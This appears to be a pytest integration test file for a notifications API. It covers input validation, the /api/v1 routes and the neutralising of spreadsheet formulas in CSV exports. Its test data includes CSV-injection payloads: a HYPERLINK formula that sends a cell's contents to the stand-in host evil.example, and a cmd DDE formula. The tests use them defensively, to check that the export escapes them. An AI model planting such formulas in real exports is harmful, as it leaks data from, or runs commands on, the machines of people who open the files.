"""No 5xx for out-of-range numbers, a spreadsheet-safe CSV, first known attributes,
/api/v1 and an OpenAPI document that says what the API takes: on both configurations."""

from __future__ import annotations

import csv
import io
import time
import uuid

import pytest

from tests.integration.conftest import InProcess

BASE = 1_790_000_000
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2", "@SUM(A1)",
            "\tcmd", "\rcmd"]
# Cells that must come out exactly as they went in, neutralised or not.
PLAIN = ['a "quoted", value', "line\nbreak", "usér 日本 —", "mid=dle", "a+b"]


def _sub(i: int) -> str:
    return str(uuid.UUID(int=i + 1))


def _export(api: InProcess, message_id: str, **params: str) -> list[dict[str, str]]:
    return api.export(message_id, **params)


def _wait_ready(api: InProcess, message_id: str, export_id: str) -> None:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        doc = api.client.get(f"/notifications/{message_id}/export_events/{export_id}",
                             params={"app_id": api.app_id}).json()
        if doc["state"] == "ready":
            return
        assert doc["state"] in ("queued", "running"), doc
        time.sleep(0.05)
    raise AssertionError("export not ready in 30 s")


@pytest.mark.parametrize("params", [
    {"offset": "99999999999999999999"}, {"offset": "-1"}, {"offset": str(2**31)},
    {"limit": "0"}, {"limit": "51"}, {"limit": "1" + "0" * 30}, {"kind": "99"},
    {"kind": "-1"}, {"limit": "1e3"}])
def test_numbers_out_of_range_are_400_in_the_envelope(api: InProcess, params) -> None:
    for prefix in ("", "/api/v1"):
        r = api.client.get(f"{prefix}/notifications", params={"app_id": api.app_id, **params})
        assert r.status_code == 400, r.text
        name = next(iter(params))
        assert r.json()["errors"] and r.json()["errors"][0].startswith(name), r.json()


def test_largest_offset_is_an_empty_page(api: InProcess) -> None:
    r = api.client.get("/notifications", params={"app_id": api.app_id, "offset": 2**31 - 1})
    assert r.status_code == 200 and r.json()["notifications"] == []


def test_formula_cells_are_neutralised_unless_csv_raw(api: InProcess) -> None:
    message_id = api.create_message()
    texts = FORMULAS + PLAIN
    events = [{"subscription_id": _sub(i), "event": "sent", "timestamp": BASE,
               "external_id": text, "device_type": "@dev" if i == 0 else "iOS",
               "failure_message": texts[-1 - i]} for i, text in enumerate(texts)]
    assert api.send(message_id, events).status_code == 200
    # A recipient folded once, then given a formula attribute by a later fold.
    assert api.send(message_id, [{"subscription_id": _sub(99), "event": "sent",
                                  "timestamp": BASE}]).status_code == 200
    assert api.client.get(f"/notifications/{message_id}",
                          params={"app_id": api.app_id}).status_code == 200  # folds
    assert api.send(message_id, [{"subscription_id": _sub(99), "event": "failed",
                                  "timestamp": BASE + 5,
                                  "failure_message": "=cmd|' /C calc'!A0"}]).status_code == 200

    safe = {r["subscription_id"]: r for r in _export(api, message_id)}
    raw = {r["subscription_id"]: r for r in _export(api, message_id, csv_raw="true")}
    for i, text in enumerate(texts):
        expected = "'" + text if text in FORMULAS else text
        assert safe[_sub(i)]["external_user_id"] == expected
        assert raw[_sub(i)]["external_user_id"] == text
        message = texts[-1 - i]
        assert safe[_sub(i)]["failure_message"] == (
            "'" + message if message in FORMULAS else message)
        assert raw[_sub(i)]["failure_message"] == message
    assert safe[_sub(0)]["device_type"] == "'@dev" and raw[_sub(0)]["device_type"] == "@dev"
    assert safe[_sub(99)]["failure_message"] == "'=cmd|' /C calc'!A0"
    assert raw[_sub(99)]["failure_message"] == "=cmd|' /C calc'!A0"
    assert raw[_sub(99)]["failed"] and safe[_sub(99)]["failed"] == raw[_sub(99)]["failed"]


def test_history_neutralises_external_ids_unless_csv_raw(api: InProcess) -> None:
    message_id = api.create_message()
    events = [{"subscription_id": _sub(i), "event": "sent", "timestamp": BASE,
               "external_id": text} for i, text in enumerate(FORMULAS + PLAIN)]
    assert api.send(message_id, events).status_code == 200
    for raw in (False, True):
        r = api.client.post(f"/notifications/{message_id}/history", json={
            "app_id": api.app_id, "events": "sent", **({"csv_raw": True} if raw else {})})
        assert r.status_code == 200, r.text
        _wait_ready(api, message_id, r.json()["export_id"])
        rows = list(csv.DictReader(io.StringIO(api.fetch(r.json()["destination_url"]).decode(),
                                               newline="")))
        got = {row["player_id"]: row["external_id"] for row in rows}
        for i, text in enumerate(FORMULAS + PLAIN):
            assert got[_sub(i)] == (text if raw or text not in FORMULAS else "'" + text)


def test_csv_raw_must_be_a_boolean(api: InProcess) -> None:
    message_id = api.create_message()
    r = api.client.post(f"/notifications/{message_id}/history",
                        json={"app_id": api.app_id, "events": "sent", "csv_raw": "yes"})
    assert r.status_code == 400 and r.json()["errors"] == ["csv_raw: must be true or false"]
    r = api.client.post(f"/notifications/{message_id}/export_events",
                        params={"app_id": api.app_id, "csv_raw": "maybe"})
    assert r.status_code == 400 and r.json()["errors"][0].startswith("csv_raw")


def test_first_known_attribute_wins_within_and_across_batches_and_folds(api: InProcess) -> None:
    """Each pair would come out the other way under max(): the later value is larger."""
    message_id = api.create_message()
    a, b, c = _sub(1), _sub(2), _sub(3)

    def ev(sub: str, name: str, ext: str, dev: str) -> dict:  # type: ignore[type-arg]
        return {"subscription_id": sub, "event": name, "timestamp": BASE,
                "external_id": ext, "device_type": dev}

    # a: one request, two events; b: two requests, folded together; c: two folds.
    assert api.send(message_id, [ev(a, "sent", "aaa-first", "Android"),
                                 ev(a, "delivered", "zzz-later", "iOS")]).status_code == 200
    assert api.send(message_id, [ev(b, "sent", "aaa-first", "Android"),
                                 ev(c, "sent", "aaa-first", "Android")]).status_code == 200
    assert api.send(message_id, [ev(b, "delivered", "zzz-later", "iOS")]).status_code == 200
    api.client.get(f"/notifications/{message_id}", params={"app_id": api.app_id})
    assert api.send(message_id, [ev(c, "delivered", "zzz-later", "iOS")]).status_code == 200
    rows = {r["subscription_id"]: r for r in _export(api, message_id)}
    for sub in (a, b, c):
        assert (rows[sub]["external_user_id"], rows[sub]["device_type"]) == (
            "aaa-first", "Android"), sub
        assert rows[sub]["delivered"]


def test_api_v1_serves_the_same_routes(api: InProcess) -> None:
    message_id = api.create_message(prefix="/api/v1")
    assert api.client.get(f"/notifications/{message_id}",
                          params={"app_id": api.app_id}).json()["id"] == message_id
    r = api.client.post(f"/api/v1/notifications/{message_id}/events",
                        params={"app_id": api.app_id},
                        json={"events": [{"subscription_id": _sub(1), "event": "sent",
                                          "timestamp": BASE}]})
    assert r.json() == {"accepted": 1, "duplicates": 0}
    doc = api.client.get(f"/api/v1/notifications/{message_id}",
                         params={"app_id": api.app_id}).json()
    assert doc["id"] == message_id and doc["successful"] == 1
    r = api.client.post(f"/api/v1/notifications/{message_id}/export_events",
                        params={"app_id": api.app_id})
    assert r.status_code == 200 and r.json()["csv_file_url"]
    assert api.client.get("/api/v1/notifications", params={"app_id": api.app_id}
                          ).json()["total_count"] == 1


def test_nul_characters_and_long_names_are_400_not_500(api: InProcess) -> None:
    """PostgreSQL text holds no NUL and the name column 500 characters: both were 500s
    there (found by the fuzz run)."""
    for name, said in (("a\x00b", "NUL"), ("n" * 501, "longer than 500")):
        r = api.client.post("/notifications", json={"app_id": api.app_id, "name": name})
        assert r.status_code == 400 and said in r.json()["errors"][0], r.text
    message_id = api.create_message()
    for field in ("external_id", "device_type", "failure_message"):
        r = api.send(message_id, [{"subscription_id": _sub(1), "event": "sent",
                                   "timestamp": BASE, field: "x\x00y"}])
        assert r.status_code == 400 and "NUL" in r.json()["errors"][0], r.text
    assert _export(api, message_id) == []
